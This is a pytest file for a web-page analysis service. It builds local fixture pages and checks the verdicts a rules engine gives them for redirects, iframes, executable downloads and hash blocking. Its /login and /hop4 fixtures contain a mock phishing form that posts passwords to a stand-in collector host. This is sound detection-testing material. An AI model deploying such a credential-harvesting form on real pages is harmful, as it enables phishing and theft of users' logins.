"""Pages built for each observation, fetched by the real fetcher, and the verdict they get."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.sites import Site, serve
from worker.analysis.policy import Policy
from worker.analysis.report import FetchReport, parse_report
from worker.analysis.rules import judge

EXE = b"MZ\x90\x00" + b"\x00" * 200


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    with serve() as site:
        html = "text/html; charset=utf-8"
        site.page("/plain", b"<html><head><title>Plain</title></head><body>hi</body></html>")
        site.page(
            "/login",
            b'<html><title>Sign in</title><form action="http://collector.test/steal" '
            b'method="post"><input type="password" name="p"></form></html>',
        )
        site.page(
            "/setup.exe",
            EXE,
            content_type="application/x-msdownload",
            headers={"Content-Disposition": 'attachment; filename="setup.exe"'},
        )
        site.page(
            "/refresh", b'<meta http-equiv="refresh" content="0; url=http://elsewhere.test/">'
        )
        site.page("/jump", b"<script>window.location.href = 'http://elsewhere.test/x';</script>")
        site.page("/framed", b'<iframe src="http://ads.test/frame"></iframe>', content_type=html)
        for hop in range(4):
            site.page(f"/hop{hop}", b"", status=302, headers={"Location": f"/hop{hop + 1}"})
        site.page(
            "/hop4",
            b'<meta http-equiv="refresh" content="5; url=http://elsewhere.test/">'
            b'<form action="http://collector.test/" method="post">'
            b'<input type="password"></form>',
        )
        yield site


def _fetch(url: str) -> FetchReport:
    stdout = subprocess.run(
        [
            sys.executable,
            "-m",
            "fetcher",
            "--allow-network",
            "127.0.0.0/8",
            "--allowed-ports",
            "any",
            "--",
            url,
        ],
        check=True,
        capture_output=True,
        timeout=60,
    ).stdout
    return parse_report(stdout)


@pytest.mark.parametrize(
    ("path", "verdict", "rules"),
    [
        ("/plain", "benign", set()),
        ("/login", "suspicious", {"password_form_cross_origin"}),
        ("/setup.exe", "suspicious", {"executable_download"}),
        ("/refresh", "benign", {"client_redirect"}),
        ("/jump", "benign", {"client_redirect"}),
        ("/framed", "benign", {"external_iframes"}),
        (
            "/hop0",
            "malicious",
            {"long_redirect_chain", "password_form_cross_origin", "client_redirect"},
        ),
    ],
)
def test_each_page_gets_its_verdict(site: Site, path: str, verdict: str, rules: set[str]) -> None:
    report = _fetch(f"http://localhost:{site.port}{path}")
    judgement = judge(report)
    assert judgement.verdict == verdict, judgement.reasons
    assert {reason.rule for reason in judgement.reasons} == rules


def test_ip_literal_hosts_count_against_a_page(site: Site) -> None:
    judgement = judge(_fetch(site.url("/plain")))
    assert [reason.rule for reason in judgement.reasons] == ["ip_literal_host"]


def test_the_policy_blocks_a_body_by_its_hash(site: Site, tmp_path: Path) -> None:
    report = _fetch(f"http://localhost:{site.port}/setup.exe")
    assert report.body is not None
    policy_file = tmp_path / "policy.toml"
    policy_file.write_text(f'[hashes]\nblock = ["{report.body.sha256}"]\n')
    judgement = judge(report, policy=Policy.load(policy_file))
    assert (judgement.verdict, judgement.reasons[0].rule) == ("malicious", "blocked_hash")
